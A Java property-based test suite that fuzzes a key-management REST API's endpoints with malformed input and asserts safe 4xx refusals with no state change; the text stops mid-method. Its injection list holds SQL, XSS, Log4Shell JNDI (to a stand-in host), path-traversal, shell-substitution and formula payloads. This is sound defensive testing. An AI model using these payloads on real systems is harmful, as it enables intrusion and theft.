package dev.keygate.adapter.rest;

import static dev.keygate.adapter.rest.JsonShapes.assertErrorShape;
import static dev.keygate.adapter.rest.JsonShapes.errorCode;
import static dev.keygate.adapter.rest.JsonShapes.errorMessage;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonParser;
import com.fasterxml.jackson.core.StreamReadFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.keygate.application.fake.TestKeygate;
import dev.keygate.application.port.query.PageRequest;
import dev.keygate.domain.api.Api;
import dev.keygate.domain.api.ApiId;
import dev.keygate.domain.api.Scope;
import dev.keygate.domain.audit.AuditAction;
import dev.keygate.domain.audit.AuditEvent;
import dev.keygate.domain.event.Delivery;
import dev.keygate.domain.event.Webhook;
import dev.keygate.domain.key.ApiKey;
import dev.keygate.domain.key.ApiKeyId;
import dev.keygate.domain.owner.OrgCode;
import dev.keygate.domain.owner.Organization;
import dev.keygate.domain.owner.Owner;
import dev.keygate.domain.owner.UserAccount;
import dev.keygate.domain.owner.UserId;
import dev.keygate.wire.WireJson;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.lang.reflect.ParameterizedType;
import java.lang.reflect.RecordComponent;
import java.lang.reflect.Type;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.EdgeCasesMode;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.GenerationMode;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.Reporter;
import net.jqwik.api.Tuple;
import net.jqwik.api.lifecycle.AfterProperty;
import net.jqwik.api.statistics.Statistics;

/**
 * Bad input on every management endpoint, generated: broken JSON, wrong types, nulls, huge and
 * empty strings, unicode and control characters, injection strings, bad ids and pagination, and a
 * missing, duplicated or garbled {@code Authorization}. Each request answers the 4xx its defect
 * calls for in the error shape, never a 5xx, repeats no secret, and changes nothing: keys, APIs,
 * scopes, organizations and users stay exactly as they were, and the audit trail grows only by the
 * one refusal the application records when a confined caller reaches for another owner's key.
 *
 * <p>The endpoints, their bodies and their query parameters are read from the running server's
 * route table, so a new endpoint is attacked without touching this suite; a body field or query
 * parameter this suite has no bad values for fails it until they are written down.
 */
class BadInputPropertiesTest {

  private static final int REQUESTS = 6_000;

  /** Requests each endpoint must have drawn for the run to count. */
  private static final int MIN_PER_ENDPOINT = 10;

  /** Longer than every text field's limit (256, a scope description), yet well under 64 KiB. */
  private static final int HUGE_MIN = 257;

  private static final int HUGE_MAX = 20_000;

  /** Longer than Jetty's 8 KiB limit on the request line and on the headers. */
  private static final int OVER_JETTY_LIMIT = 9_000;

  /** What Keygate's error messages may repeat of an input at most (Echo in the application). */
  private static final int MAX_ECHOED = 64;

  private static final String INVALID_REQUEST = "INVALID_REQUEST";
  private static final String BAD_REQUEST = "BAD_REQUEST";
  private static final String UNAUTHORIZED = "UNAUTHORIZED";
  private static final String NOT_FOUND = "NOT_FOUND";
  private static final String ROUTE_NOT_FOUND = "ROUTE_NOT_FOUND";

  /** Jackson reading JSON as the RFC has it, to make sure a "broken" body really is. */
  private static final ObjectMapper STRICT_JSON =
      JsonMapper.builder().enable(StreamReadFeature.STRICT_DUPLICATE_DETECTION).build();

  // What each text field refuses, by the rules of the domain and the adapter.

  /** Families of bad text. */
  enum Noise {
    /** {@value #HUGE_MIN} to {@value #HUGE_MAX} characters. */
    HUGE,
    EMPTY,
    /** Only whitespace, which names and words are stripped of. */
    BLANK,
    /** A control character between other characters, so that stripping cannot remove it. */
    CONTROL,
    /** Whitespace between other characters. */
    SPACED,
    /** Letters beyond ASCII, emoji, a right-to-left override, a zero-width space. */
    UNICODE,
    /** SQL, script, template, LDAP and path injection. */
    INJECTION
  }

  /** The kind of a text field, and so the bad text it must refuse. */
  enum Text {
    /** A human-readable name: trimmed, 1 to at most 128 characters, no control characters. */
    NAME(Noise.HUGE, Noise.EMPTY, Noise.BLANK, Noise.CONTROL),
    /** A single token such as an audience or a scope key: no whitespace either. */
    WORD(Noise.HUGE, Noise.EMPTY, Noise.BLANK, Noise.CONTROL, Noise.SPACED),
    /** A description: may be empty, at most 256 characters, no control characters. */
    DESCRIPTION(Noise.HUGE, Noise.CONTROL),
    /**
     * Ids, codes, enumerations, e-mail addresses and timestamps: a fixed alphabet or format, so
     * every family is refused. (No bad text here holds an {@code @}, so none is an e-mail.)
     */
    CODE(Noise.values()),
    /**
     * A webhook's description: 1 to 1024 characters, no control characters; so only text over 1024
     * of the huge family is refused, and none of it is counted on.
     */
    NOTE(Noise.EMPTY, Noise.BLANK, Noise.CONTROL),
    /** Text that verify judges rather than refuses: any key presented answers 200, valid or not. */
    JUDGED;

    final Set<Noise> refused;

    Text(Noise... refused) {
      this.refused = Set.of(refused);
    }
  }

  /**
   * Every text field of every request body, by its JSON name; for a list, the kind of its elements.
   * Timestamps are {@link Text#CODE} by their type.
   */
  private static final Map<String, Text> TEXT_FIELDS =
      Map.ofEntries(
          Map.entry("CreateApiKeyRequest.name", Text.NAME),
          Map.entry("CreateApiKeyRequest.api_id", Text.CODE),
          Map.entry("CreateApiKeyRequest.scope_ids", Text.CODE),
          Map.entry("CreateApiKeyRequest.org_code", Text.CODE),
          Map.entry("CreateApiKeyRequest.user_id", Text.CODE),
          Map.entry("CreateApiKeyRequest.type", Text.CODE),
          Map.entry("CreateApiKeyRequest.ip_allowlist", Text.CODE),
          Map.entry("VerifyApiKeyRequest.api_key", Text.JUDGED),
          Map.entry("VerifyApiKeyRequest.required_scopes", Text.JUDGED),
          Map.entry("VerifyApiKeyRequest.api_id", Text.CODE),
          Map.entry("VerifyApiKeyRequest.client_ip", Text.CODE),
          Map.entry("UpdateApiKeyRequest.name", Text.NAME),
          Map.entry("UpdateApiKeyRequest.status", Text.CODE),
          Map.entry("UpdateApiKeyRequest.ip_allowlist", Text.CODE),
          Map.entry("RegisterApiRequest.name", Text.NAME),
          Map.entry("RegisterApiRequest.audience", Text.WORD),
          Map.entry("AddScopeRequest.key", Text.WORD),
          Map.entry("AddScopeRequest.description", Text.DESCRIPTION),
          Map.entry("UpdateScopeRequest.description", Text.DESCRIPTION),
          Map.entry("CreateOrganizationRequest.name", Text.NAME),
          Map.entry("CreateOrganizationRequest.code", Text.CODE),
          Map.entry("CreateUserRequest.id", Text.CODE),
          Map.entry("CreateUserRequest.name", Text.NAME),
          Map.entry("CreateUserRequest.email", Text.CODE),
          Map.entry("CreateUserRequest.organization_code", Text.CODE),
          Map.entry("CreatePortalLinkRequest.org_code", Text.CODE),
          Map.entry("CreatePortalLinkRequest.user_id", Text.CODE),
          Map.entry("SetGrantRequest.scope_ids", Text.CODE),
          Map.entry("UpdateOrganizationRequest.name", Text.NAME),
          Map.entry("UpdateUserRequest.name", Text.NAME),
          Map.entry("UpdateUserRequest.given_name", Text.NAME),
          Map.entry("UpdateUserRequest.family_name", Text.NAME),
          Map.entry("CreateWebhookRequest.endpoint", Text.CODE),
          Map.entry("CreateWebhookRequest.event_types", Text.CODE),
          Map.entry("CreateWebhookRequest.name", Text.NAME),
          Map.entry("CreateWebhookRequest.description", Text.NOTE),
          Map.entry("CreateWebhookRequest.org_code", Text.CODE),
          Map.entry("UpdateWebhookRequest.event_types", Text.CODE),
          Map.entry("UpdateWebhookRequest.name", Text.NAME),
          Map.entry("UpdateWebhookRequest.description", Text.NOTE));

  /** The largest value of a whole-number field, where it is not a grace of at most seven days. */
  private static final Map<String, Long> LONG_MAXIMA =
      Map.of(
          "VerifyApiKeyRequest.cost",
          1_000_000_000L,
          "CreatePortalLinkRequest.expires_in_seconds",
          86_400L);

  /** The kind of every query parameter the server documents. */
  enum Query {
    /** A whole number from 1 to 500. */
    PAGE_SIZE,
    /** A cursor: any text is a position in id order, so none is refused. */
    CURSOR,
    /** Kinde's {@code next_token}: only what a page answered is a token. */
    TOKEN,
    /** One of a few words. */
    ENUMERATION,
    /** An id: a prefix and 32 lowercase hex digits. */
    IDENTIFIER,
    /** An organization's code or a user's id: 1 to 64 of {@code [A-Za-z0-9_.:-]}. */
    OWNER,
    /** E-mail addresses separated by commas. */
    EMAIL,
    /** {@code true} or {@code false}. */
    BOOLEAN,
    /** Text a key's name or id is searched for: 1 to 128 characters. */
    SEARCH,
    /** An ISO-8601 instant. */
    INSTANT,
    /** An actor as events name it: 1 to 128 characters, no control characters. */
    ACTOR,
    /** One Kinde declares but Keygate refuses whatever its value, rather than ignore it. */
    UNSUPPORTED
  }

  /** The routes of one organization or user, whose deletion the owners of keys cannot have. */
  private static final Set<String> OWNER_ROUTES =
      Set.of("/api/v1/organization/{org_code}", "/api/v1/user");

  /** An organization and a user that own nothing, for the requests that delete one. */
  private static final String EMPTY_ORG = "org_e";

  private static final String EMPTY_USER = "kp_e";

  private static final Map<String, Query> QUERY_PARAMETERS =
      Map.ofEntries(
          Map.entry("page_size", Query.PAGE_SIZE),
          Map.entry("starting_after", Query.CURSOR),
          Map.entry("next_token", Query.TOKEN),
          Map.entry("key_type", Query.ENUMERATION),
          Map.entry("status", Query.ENUMERATION),
          Map.entry("expand", Query.ENUMERATION),
          Map.entry("api_id", Query.IDENTIFIER),
          Map.entry("key_id", Query.IDENTIFIER),
          Map.entry("org_code", Query.OWNER),
          Map.entry("user_id", Query.OWNER),
          Map.entry("code", Query.OWNER),
          Map.entry("id", Query.OWNER),
          Map.entry("sort", Query.ENUMERATION),
          Map.entry("period", Query.ENUMERATION),
          Map.entry("email", Query.EMAIL),
          Map.entry("is_delete_profile", Query.BOOLEAN),
          Map.entry("search", Query.SEARCH),
          Map.entry("action", Query.ENUMERATION),
          Map.entry("order", Query.ENUMERATION),
          Map.entry("actor", Query.ACTOR),
          Map.entry("since", Query.INSTANT),
          Map.entry("until", Query.INSTANT),
          Map.entry("username", Query.UNSUPPORTED),
          Map.entry("phone", Query.UNSUPPORTED),
          Map.entry("has_organization", Query.UNSUPPORTED),
          Map.entry("active_since", Query.UNSUPPORTED));

  /** The audit action of each key endpoint, recorded when a confined caller reaches too far. */
  private static final Map<String, AuditAction> KEY_ACTIONS =
      Map.of(
          "GET", AuditAction.API_KEY_READ,
          "PUT", AuditAction.API_KEY_ROTATE,
          "PATCH", AuditAction.API_KEY_UPDATE,
          "DELETE", AuditAction.API_KEY_REVOKE);

  private static final List<String> INJECTIONS =
      List.of(
          "' OR '1'='1",
          "'; DROP TABLE api_keys; --",
          "\" OR \"\"=\"",
          "1; SELECT pg_sleep(10)",
          "admin'--",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "${jndi:ldap://evil.example/a}",
          "{{7*7}}",
          "#{7*7}",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "$(id)",
          "`id`",
          "| cat /etc/passwd",
          "*)(uid=*))(|(uid=*",
          "{\"$gt\": \"\"}",
          "%00",
          "%s%s%s%n",
          "=cmd|'/C calc'!A0");

  private final RestFixture rest = new RestFixture();
  private final World world = new World(rest);
  private final RawHttp http = new RawHttp(rest.server().port());
  // The routes of M2M applications are not generated yet: their bodies (a list of objects among
  // them) have no written-down bases here. ApplicationAuthorityMatrixTest and M2mApplicationsTest
  // cover them meanwhile.
  private final List<ManagementEndpoint> endpoints =
      ManagementEndpoint.servedBy(rest).stream()
          .filter(endpoint -> !ApplicationAuthorityMatrixTest.isApplicationRoute(endpoint))
          .toList();
  private final Map<String, Integer> byEndpoint = new TreeMap<>();
  private final Map<Integer, Integer> byStatus = new TreeMap<>();

  @AfterProperty
  void stop(Reporter reporter) {
    rest.close();
    if (!byEndpoint.isEmpty()) {
      int total = byEndpoint.values().stream().mapToInt(Integer::intValue).sum();
      reporter.publishValue(
          "bad input",
          total + " requests over " + byEndpoint.size() + " endpoints; by status " + byStatus);
    }
  }

  // The property

  @Property(
      tries = REQUESTS,
      generation = GenerationMode.RANDOMIZED,
      edgeCases = EdgeCasesMode.NONE)
  void givenABadRequestOnAnyEndpoint_whenSent_thenItAnswersItsRefusalAndChangesNothing(
      @ForAll("badRequests") Attempt attempt) {
    // Each request is judged on its own: earlier tries' failures lock no lookup out, unless asked.
    rest.keygate.failedAttempts.forgive();
    if (!attempt.refusal().lockedOut().isEmpty()) {
      // Locked out for the address these requests come from.
      rest.keygate.failedAttempts.lockOut(
          TestKeygate.lookupOf(attempt.refusal().lockedOut()), "127.0.0.1");
    }
    State before = State.of(rest.keygate);

    RawHttp.Response answer = http.send(attempt.request());

    State after = State.of(rest.keygate);
    count(attempt, answer);
    String said = attempt + " answered " + answer.status() + " " + abbreviate(answer.body(), 300);
    assertThat(answer.status()).as(said).isEqualTo(attempt.refusal().status());
    assertErrorShape(answer.status(), answer.header("Content-Type"), answer.body());
    assertThat(errorCode(answer.body())).as(said).isEqualTo(attempt.refusal().code());
    if (answer.status() == 429) {
      assertThat(answer.header("Retry-After"))
          .as(said)
          .hasValueSatisfying(seconds -> assertThat(seconds).matches("[1-9][0-9]*"));
    }
    String message = errorMessage(answer.body());
    for (String token : world.tokens()) {
      assertThat(answer.body()).as(said).doesNotContain(token);
    }
    for (String payload : attempt.refusal().payloads()) {
      if (payload.length() > MAX_ECHOED) {
        assertThat(message).as(said).doesNotContain(payload);
      }
    }
    assertThat(after.withoutAudit()).as(said).isEqualTo(before.withoutAudit());
    assertThat(after.audit().subList(0, before.audit().size())).isEqualTo(before.audit());
    assertThat(after.audit().subList(before.audit().size(), after.audit().size()))
        .as(said)
        .map(BadInputPropertiesTest::refusal)
        .containsExactlyElementsOf(attempt.refusal().audited());
  }

  private void count(Attempt attempt, RawHttp.Response answer) {
    String endpoint = attempt.endpoint().name();
    byEndpoint.merge(endpoint, 1, Integer::sum);
    byStatus.merge(answer.status(), 1, Integer::sum);
    Statistics.label("endpoint").collect(endpoint);
    Statistics.label("status").collect(answer.status());
    Statistics.label("defect").collect(attempt.defect());
    Statistics.label("endpoint")
        .coverage(
            coverage -> {
              // An endpoint without a body draws about 0.7 % of the requests (40 of 6,000, give or
              // take 7, since the webhook routes joined): the floor is far enough below that only
              // an endpoint the generators dropped fails it, never the luck of a draw.
              for (ManagementEndpoint each : endpoints) {
                coverage.check(each.name()).count(requests -> requests >= MIN_PER_ENDPOINT);
              }
              coverage.checkQuery(any -> true).count(requests -> requests >= 5_000);
            });
  }

  private static String refusal(AuditEvent event) {
    return event.actor()
        + " "
        + event.action()
        + " "
        + event.target()
        + " "
        + event.outcome()
        + " "
        + event.targetOwner().map(Owner::id).orElse("-");
  }

  /** The requests the defects are made from, each as it is, succeed: the defect is the refusal. */
  @Example
  void givenTheRequestsTheDefectsAreMadeFrom_whenSentAsTheyAre_thenEachSucceeds() {
    List<String> failures = new ArrayList<>();
    for (ManagementEndpoint endpoint : endpoints) {
      int bases = endpoint.takesBody() ? world.bases(endpoint).size() : 1;
      for (int base = 0; base < bases; base++) {
        // A world of its own for each, as each may change it.
        try (RestFixture fresh = new RestFixture()) {
          World own = new World(fresh);
          Attempt valid = own.valid(endpoint, own.root, base);
          RawHttp.Response answer = new RawHttp(fresh.server().port()).send(valid.request());
          if (answer.status() != valid.refusal().status()) {
            failures.add(valid + " answered " + answer.status() + " " + answer.body());
          }
        }
      }
    }
    assertThat(failures).isEmpty();
  }

  /** Each body field and query parameter has its bad values written down, and each is attacked. */
  @Example
  void givenTheRouteTable_everyFieldAndQueryParameterHasBadValues() {
    for (Field field : world.fields(withBody())) {
      textKind(field);
      wrongTypeValues(field.component().getGenericType());
    }
    for (ManagementEndpoint endpoint : endpoints) {
      endpoint.route().request().ifPresent(type -> world.requireBases(type));
      for (Route.QueryParameter parameter : endpoint.route().query()) {
        assertThat(QUERY_PARAMETERS)
            .as(endpoint + " ?" + parameter.name())
            .containsKey(parameter.name());
      }
    }
    assertThat(endpoints).extracting(ManagementEndpoint::name).contains("POST /api/v1/api_keys");
  }

  // Generators

  @Provide
  Arbitrary<Attempt> badRequests() {
    return Arbitraries.frequencyOf(
        List.of(
            Tuple.of(12, brokenJson()),
            Tuple.of(10, wrongTypes()),
            Tuple.of(6, nullsAndMissingFields()),
            Tuple.of(5, unknownAndDuplicatedFields()),
            Tuple.of(12, badText()),
            Tuple.of(4, wrongValues()),
            Tuple.of(3, invalidUtf8()),
            Tuple.of(3, wrongContentTypes()),
            Tuple.of(2, tooLarge()),
            Tuple.of(10, badPathIds()),
            Tuple.of(4, otherOwnersKeys()),
            Tuple.of(4, otherOwnersWebhooks()),
            Tuple.of(10, badQueries()),
            Tuple.of(4, wrongMethods()),
            Tuple.of(15, badAuthorization())));
  }

  private List<ManagementEndpoint> withBody() {
    return endpoints.stream().filter(ManagementEndpoint::takesBody).toList();
  }

  private Arbitrary<Caller> anyCaller() {
    return Arbitraries.of(world.root, world.orgBAdmin, world.userUAdmin);
  }

  /** Bodies that are not a JSON object, or not JSON at all. Refused before any use case runs. */
  private Arbitrary<Attempt> brokenJson() {
    return Arbitraries.of(withBody())
        .flatMap(
            endpoint -> {
              String base = world.base(endpoint, 0);
              return Combinators.combine(anyCaller(), brokenBodies(base, endpoint))
                  .as(
                      (caller, body) ->
                          world
                              .valid(endpoint, caller, 0)
                              .named("broken JSON")
                              .withBody(body.getBytes(StandardCharsets.UTF_8))
                              .refused(400, INVALID_REQUEST));
            });
  }

  private static Arbitrary<String> brokenBodies(String base, ManagementEndpoint endpoint) {
    List<Arbitrary<String>> kinds = new ArrayList<>();
    kinds.add(
        Arbitraries.integers().between(1, base.length() - 1).map(at -> base.substring(0, at)));
    kinds.add(Arbitraries.of(" ", ",", "=", ";", "", "::").map(x -> base.replaceFirst(":", x)));
    kinds.add(Arbitraries.just(base.replace('"', '\'')));
    kinds.add(Arbitraries.just(base.replaceAll("\"([a-z_]+)\":", "$1:")));
    kinds.add(
        Arbitraries.of(",", "}", "]", "x", "{}", base, "null", "/* c */", "\u0000")
            .map(trailing -> base + trailing));
    kinds.add(
        Arbitraries.of("x", ",", "/* c */", "// c\n", "[", "{", "\u0000").map(lead -> lead + base));
    kinds.add(
        Arbitraries.of("NaN", "Infinity", "-Infinity", "undefined", "0x1F", "01", "+1", ".5", "1.")
            .map(literal -> base.replaceFirst(":[^,}]+", ":" + literal)));
    kinds.add(
        Arbitraries.of(
            "[]", "[" + base + "]", "\"text\"", "42", "-1.5e3", "true", "false", "null", " \n\t "));
    kinds.add(
        Arbitraries.integers().between(1_001, 20_000).map(n -> "[".repeat(n) + "]".repeat(n)));
    kinds.add(
        Arbitraries.integers()
            .between(1_001, 9_000)
            .map(n -> "{\"name\":" + "{\"a\":".repeat(n) + "1" + "}".repeat(n) + "}"));
    kinds.add(Arbitraries.strings().ofMinLength(1).ofMaxLength(300));
    if (!endpoint.route().optionalRequest()) {
      kinds.add(Arbitraries.just(""));
    }
    return Arbitraries.oneOf(kinds).filter(body -> !isJsonObject(body));
  }

  /** Whether RFC 8259 JSON reads {@code text} as exactly one object. */
  private static boolean isJsonObject(String text) {
    try (JsonParser parser = STRICT_JSON.createParser(text)) {
      JsonNode node = STRICT_JSON.readTree(parser);
      return node != null && node.isObject() && parser.nextToken() == null;
    } catch (IOException notJson) {
      return false;
    }
  }

  /** A field given a JSON value of another type. Refused before any use case runs. */
  private Arbitrary<Attempt> wrongTypes() {
    return Arbitraries.of(world.fields(withBody()))
        .flatMap(
            field ->
                Combinators.combine(
                        anyCaller(), wrongTypeValues(field.component().getGenericType()))
                    .as(
                        (caller, value) ->
                            world
                                .withField(field, caller, value)
                                .named("wrong type")
                                .refused(400, INVALID_REQUEST)));
  }

  private static Arbitrary<String> wrongTypeValues(Type type) {
    Arbitrary<String> numbers =
        Arbitraries.oneOf(
            Arbitraries.integers().map(String::valueOf),
            Arbitraries.longs().map(String::valueOf),
            Arbitraries.doubles().map(String::valueOf).filter(text -> text.matches("-?[0-9.E-]+")));
    Arbitrary<String> containers =
        Arbitraries.of("{}", "{\"a\":\"b\"}", "[]", "[\"a\"]", "[1]", "[[]]", "true", "false");
    if (type == String.class) {
      return Arbitraries.oneOf(numbers, containers);
    }
    if (type == Long.class) {
      return Arbitraries.oneOf(
          Arbitraries.of(
              "\"60\"",
              "\"\"",
              "true",
              "{}",
              "[]",
              "[60]",
              "1.5",
              "1e3",
              "-0.5",
              "99999999999999999999",
              "\"1e3\""),
          Arbitraries.longs().map(n -> "\"" + n + "\""),
          Arbitraries.doubles().filter(d -> d != Math.rint(d)).map(String::valueOf));
    }
    if (type == Boolean.class) {
      return Arbitraries.oneOf(
          numbers, Arbitraries.of("\"true\"", "\"false\"", "\"\"", "{}", "[]", "[true]"));
    }
    if (type == Instant.class) {
      return Arbitraries.oneOf(
          numbers,
          Arbitraries.longs().between(0, 99_999_999_999L).map(n -> "\"" + n + "\""),
          Arbitraries.of(
              "true", "{}", "[]", "[\"2100-01-01T00:00:00Z\"]", "{\"epoch_second\":4102444800}"));
    }
    if (isListOfText(type)) {
      return Arbitraries.oneOf(
          numbers,
          Arbitraries.of(
              "\"read:users\"",
              "true",
              "{}",
              "[7]",
              "[true]",
              "[{}]",
              "[[]]",
              "[1.5]",
              "[\"read:users\",2]",
              "{\"0\":\"read:users\"}"));
    }
    if (type instanceof Class<?> record && record.isRecord()) {
      return Arbitraries.oneOf(numbers, Arbitraries.of("\"x\"", "true", "[]", "[{}]"));
    }
    if (type instanceof ParameterizedType list
        && list.getRawType() == List.class
        && list.getActualTypeArguments()[0] instanceof Class<?> element
        && element.isRecord()) {
      return Arbitraries.oneOf(
          numbers, Arbitraries.of("\"x\"", "true", "{}", "[7]", "[\"x\"]", "[[]]", "[{}]"));
    }
    throw new AssertionError("no wrong types written down for a field of " + type);
  }

  /** A required field null or left out, or a null in a list. Refused before any use case runs. */
  private Arbitrary<Attempt> nullsAndMissingFields() {
    List<Field> fields =
        world.fields(withBody()).stream()
            .filter(field -> field.required() || isListOfText(field.component().getGenericType()))
            .toList();
    return Arbitraries.of(fields)
        .flatMap(
            field -> {
              Arbitrary<String> values =
                  field.required()
                      ? Arbitraries.of("null", "(left out)")
                      : Arbitraries.of("[null]", "[\"read:users\",null]", "[null,null]");
              return Combinators.combine(anyCaller(), values)
                  .as(
                      (caller, value) ->
                          (value.equals("(left out)")
                                  ? world.withoutField(field, caller)
                                  : world.withField(field, caller, value))
                              .named("null or missing")
                              .refused(400, INVALID_REQUEST));
            });
  }

  /** A field no body documents, or one given twice. Refused before any use case runs. */
  private Arbitrary<Attempt> unknownAndDuplicatedFields() {
    Arbitrary<Attempt> unknown =
        Arbitraries.of(withBody())
            .flatMap(
                endpoint ->
                    Combinators.combine(
                            anyCaller(),
                            Arbitraries.oneOf(
                                    noise(Noise.UNICODE),
                                    noise(Noise.INJECTION),
                                    noise(Noise.CONTROL),
                                    noise(Noise.HUGE)
                                        .map(
                                            name ->
                                                name.substring(0, Math.min(name.length(), 2_000))),
                                    Arbitraries.of("", "Name", "apiId", "NAME", "name ", "nmae"))
                                .filter(name -> !world.fieldNames(endpoint).contains(name)),
                            Arbitraries.of("1", "null", "\"x\"", "{}", "[]"))
                        .as(
                            (caller, name, value) ->
                                world
                                    .valid(endpoint, caller, 0)
                                    .named("unknown field")
                                    .withBody(
                                        withRawMember(
                                            world.base(endpoint, 0), WireJson.write(name), value))
                                    .carrying(name)
                                    .refused(400, INVALID_REQUEST)));
    Arbitrary<Attempt> duplicated =
        Arbitraries.of(world.fields(withBody()))
            .flatMap(
                field ->
                    anyCaller()
                        .map(
                            caller -> {
                              String base = world.baseWith(field);
                              JsonNode value = tree(base).get(field.name());
                              return world
                                  .withField(field, caller, WireJson.write(value))
                                  .named("duplicated field")
                                  .withBody(
                                      withRawMember(
                                          base, WireJson.write(field.name()), value.toString()))
                                  .refused(400, INVALID_REQUEST);
                            }));
    return Arbitraries.oneOf(unknown, duplicated);
  }

  /** Text a field's kind refuses: checked by the use cases, so sent with the operator's key. */
  private Arbitrary<Attempt> badText() {
    List<Map.Entry<Field, Noise>> targets = new ArrayList<>();
    for (Field field : world.fields(withBody())) {
      for (Noise noise : textKind(field).refused) {
        targets.add(Map.entry(field, noise));
      }
    }
    return Arbitraries.of(targets)
        .flatMap(
            target ->
                noise(target.getValue())
                    .map(
                        text -> {
                          Field field = target.getKey();
                          String value =
                              isListOfText(field.component().getGenericType())
                                  ? "[\"read:users\"," + WireJson.write(text) + "]"
                                  : WireJson.write(text);
                          return world
                              .withField(field, world.root, value)
                              .named(
                                  "bad text: " + target.getValue().name().toLowerCase(Locale.ROOT))
                              .carrying(text)
                              .refused(400, INVALID_REQUEST);
                        }));
  }

  /** The kind of text a field holds; fields that hold no text refuse none. */
  private static Text textKind(Field field) {
    Type type = field.component().getGenericType();
    if (type == Instant.class) {
      return Text.CODE;
    }
    if (type != String.class && !isListOfText(type)) {
      return Text.JUDGED;
    }
    Text kind = TEXT_FIELDS.get(field.qualifiedName());
    if (kind == null) {
      throw new AssertionError("no kind of text written down for " + field.qualifiedName());
    }
    return kind;
  }

  /**
   * Values of the right type that the rules refuse: a timestamp in the past or not a date, a grace
   * out of range, a reserved name, an owner or API that does not exist. Sent as the operator.
   */
  private Arbitrary<Attempt> wrongValues() {
    List<Arbitrary<Attempt>> kinds = new ArrayList<>();
    for (Field field : world.fields(withBody())) {
      Type type = field.component().getGenericType();
      if (type == Instant.class) {
        kinds.add(
            Arbitraries.oneOf(
                    Arbitraries.of(
                        "1970-01-01T00:00:00Z",
                        "2020-01-01T00:00:00Z",
                        "2100-02-30T00:00:00Z",
                        "2100-01-01T25:00:00Z",
                        "2100-01-01",
                        "2100-01-01T00:00:00",
                        "01/01/2100"),
                    Arbitraries.integers().between(1, 2025).map(year -> year(year)))
                .map(
                    value ->
                        world
                            .withField(field, world.root, WireJson.write(value))
                            .named("wrong value")
                            .refused(400, INVALID_REQUEST)));
      } else if (type == Long.class) {
        long most = LONG_MAXIMA.getOrDefault(field.qualifiedName(), 604_800L);
        kinds.add(
            Arbitraries.oneOf(
                    Arbitraries.longs().lessOrEqual(-1),
                    Arbitraries.longs().greaterOrEqual(most + 1))
                .map(
                    value ->
                        world
                            .withField(field, world.root, String.valueOf(value))
                            .named("wrong value")
                            .refused(400, INVALID_REQUEST)));
      }
    }
    for (Map.Entry<String, List<WrongValue>> special : world.wrongValues().entrySet()) {
      ManagementEndpoint endpoint =
          endpoints.stream()
              .filter(each -> each.name().equals(special.getKey()))
              .findFirst()
              .orElseThrow(() -> new AssertionError(special.getKey() + " is not served"));
      kinds.add(
          Arbitraries.of(special.getValue())
              .map(
                  wrong -> {
                    Field field = world.field(endpoint, wrong.field());
                    return world
                        .withField(field, world.root, wrong.json())
                        .named("wrong value")
                        .refused(wrong.status(), wrong.code());
                  }));
    }
    return Arbitraries.oneOf(kinds);
  }

  private static String year(int year) {
    return "%04d-06-15T12:00:00Z".formatted(year);
  }

  /** Bytes that are not UTF-8 somewhere in the body. Refused before any use case runs. */
  private Arbitrary<Attempt> invalidUtf8() {
    Arbitrary<byte[]> sequences =
        Arbitraries.of(
            new byte[] {(byte) 0xFF},
            new byte[] {(byte) 0xFE},
            new byte[] {(byte) 0xC3, 0x28},
            new byte[] {(byte) 0x80},
            new byte[] {(byte) 0xE2, (byte) 0x82},
            new byte[] {(byte) 0xC0, (byte) 0xAF},
            new byte[] {(byte) 0xE0, (byte) 0x80, (byte) 0xAF},
            new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
            new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80});
    return Arbitraries.of(withBody())
        .flatMap(
            endpoint -> {
              byte[] base = world.base(endpoint, 0).getBytes(StandardCharsets.UTF_8);
              return Combinators.combine(
                      anyCaller(), sequences, Arbitraries.integers().between(1, base.length - 1))
                  .as(
                      (caller, sequence, at) -> {
                        ByteArrayOutputStream body = new ByteArrayOutputStream();
                        body.write(base, 0, at);
                        body.writeBytes(sequence);
                        body.write(base, at, base.length - at);
                        return world
                            .valid(endpoint, caller, 0)
                            .named("invalid UTF-8")
                            .withBody(body.toByteArray())
                            .refused(400, INVALID_REQUEST);
                      });
            });
  }

  /** A body of any type but JSON. Refused before authentication. */
  private Arbitrary<Attempt> wrongContentTypes() {
    return Combinators.combine(
            Arbitraries.of(withBody()),
            anyCaller(),
            Arbitraries.of(
                "text/plain",
                "text/json",
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x",
                "application/xml",
                "application/jso",
                "application/jsonx",
                "application/json-patch+json",
                "json",
                "*/*",
                "(none)"))
        .as(
            (endpoint, caller, type) -> {
              Attempt valid = world.valid(endpoint, caller, 0).named("not JSON");
              List<Map.Entry<String, byte[]>> headers =
                  valid.request().headers().stream()
                      .filter(header -> !header.getKey().equals("Content-Type"))
                      .collect(Collectors.toCollection(ArrayList::new));
              if (!type.equals("(none)")) {
                headers.add(RawHttp.header("Content-Type", type));
              }
              return valid.withHeaders(headers).refused(415, "UNSUPPORTED_MEDIA_TYPE");
            });
  }

  /** A body over 64 KiB, declared or chunked. */
  private Arbitrary<Attempt> tooLarge() {
    return Combinators.combine(
            Arbitraries.of(withBody()),
            anyCaller(),
            Arbitraries.integers().between(RestServer.MAX_REQUEST_BYTES + 1, 200_000),
            Arbitraries.of(false, true))
        .as(
